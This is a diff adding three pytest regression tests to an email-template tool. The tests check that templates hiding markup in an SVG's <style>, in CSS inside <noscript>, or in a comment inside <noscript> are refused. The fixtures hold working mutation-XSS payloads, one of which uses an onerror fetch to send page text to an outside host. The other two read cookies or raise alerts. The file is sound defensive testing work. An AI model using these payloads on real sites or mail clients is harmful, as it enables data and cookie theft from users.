@@ -208,3 +208,52 @@ def test_a_preview_leaves_a_log_of_an_earlier_version_as_it_is(project: Path) ->
     assert "Upgrading" not in shown.output, shown.output
     assert "did not look in it for a scheduled send" in said(shown), shown.output
     assert log.read_bytes() == before
+
+
+# -- 7. a picture's onerror= in the CSS of an SVG --------------------------------------------------------
+
+
+def test_a_template_cannot_hide_markup_in_an_svgs_style(project: Path) -> None:
+    """Inside <svg>, a browser reads a <style>'s text as markup, where the template check's parser
+    (and lxml) read CSS: '<svg><style>@media screen{a{font-family:"<img src=... onerror=...>"}}</style></svg>'
+    went through the check, inlining kept the CSS string in the email, and the browser that opened
+    the preview made a picture of it and ran its onerror=. An SVG's <style> holding markup is refused;
+    an SVG logo with its own CSS (as drawing programs export one) is fine. (The <noscript> case,
+    ended by a "</noscript>" in its CSS, is the next test.)"""
+    svg = (
+        '<svg width="10" height="10"><style>@media screen{a{font-family:"<img src=https://agency.example/none.png '
+        'onerror=fetch(`https://agency.example/?d=`+document.body.innerText)>"}}</style></svg>'
+    )
+    release = _agency_release(project, svg)
+    result = mailer("preview", str(release), "-o", "out")
+    assert result.exit_code == 1, result.output
+    assert "HTML inside an SVG's <style> is not allowed in an email template" in said(result), result.output
+    assert not (project / "out" / "pitch.html").exists()
+    logo = '<svg width="10" height="10"><defs><style>.cls-1{fill:#f5a623}</style></defs><rect class="cls-1" width="10" height="10"/></svg>'
+    (project / "agency" / "kit.html.j2").write_text(
+        (project / "agency" / "kit.html.j2").read_text(encoding="utf-8").replace(svg, logo), encoding="utf-8"
+    )
+    fine = mailer("preview", str(release), "-o", "out")
+    assert fine.exit_code == 0, fine.output
+
+
+def test_a_template_cannot_end_a_noscript_inside_its_css(project: Path) -> None:
+    """A browser running scripts reads a <noscript> as text up to the first "</noscript>", in a
+    CSS string too, where lxml reads a <style> inside it: '<noscript><style>@media screen{a{font-family:
+    "</noscript><img src=... onerror=...>"}}</style></noscript>' passed the check, and the preview ran
+    the picture's onerror=. Refused, as the SVG's."""
+    css = '@media screen{a{font-family:"</noscript><img src=https://agency.example/none.png onerror=alert(document.cookie)>"}}'
+    release = _agency_release(project, f"<noscript><style>{css}</style></noscript>")
+    result = mailer("preview", str(release), "-o", "out")
+    assert result.exit_code == 1, result.output
+    assert "HTML inside a <noscript>'s <style> is not allowed in an email template" in said(result), result.output
+    assert not (project / "out" / "pitch.html").exists()
+
+
+def test_a_template_cannot_end_a_noscript_inside_a_comment(project: Path) -> None:
+    """The same with a comment: lxml keeps '<noscript><!-- </noscript><img src=... onerror=...> --></noscript>'
+    as a comment in the email, which a browser running scripts ends at its "</noscript>"."""
+    extra = '<noscript><!--[if mso]></noscript><img src="https://agency.example/none.png" onerror="alert(1)"><![endif]--></noscript>'
+    result = mailer("preview", str(_agency_release(project, extra)), "-o", "out")
+    assert result.exit_code == 1, result.output
+    assert "a comment ending a <noscript> early is not allowed in an email template" in said(result), result.output
